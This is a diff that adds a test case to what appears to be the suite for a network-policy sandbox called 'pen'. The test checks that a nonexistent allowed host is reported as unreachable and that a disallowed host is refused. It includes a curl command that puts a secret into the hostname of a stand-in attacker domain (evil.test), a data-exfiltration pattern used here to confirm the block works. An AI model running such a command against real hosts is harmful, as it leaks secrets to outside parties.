@@ -47,6 +47,24 @@ forEachKind(
 )
 
 forEachKind(
+  'P11 an allowed name that does not exist is told as such, and a refused one as refused',
+  async (world, project) => {
+    const heard = world.listen()
+    const { err } = await project.run(
+      `curl -s https://no_such.allowed.test/; curl -s https://${SECRET}.evil.test/; true`,
+      { allow: ['no_such.allowed.test:443'] },
+    )
+    expect(err).toContain(
+      'pen: not reached: no_such.allowed.test:443: the policy allows it, but no_such.allowed.test does not exist',
+    )
+    expect(err).toContain(
+      `pen: refused: ${SECRET}.evil.test:443; to allow it: pen allow ${SECRET}.evil.test:443\n`,
+    )
+    expect(new Set(heard.names)).toEqual(new Set(['no_such.allowed.test']))
+  },
+)
+
+forEachKind(
   'P7 no datagram, ping or raw packet leaves, and the program hears so at once',
   async (world, project) => {
     const heard = world.listen()
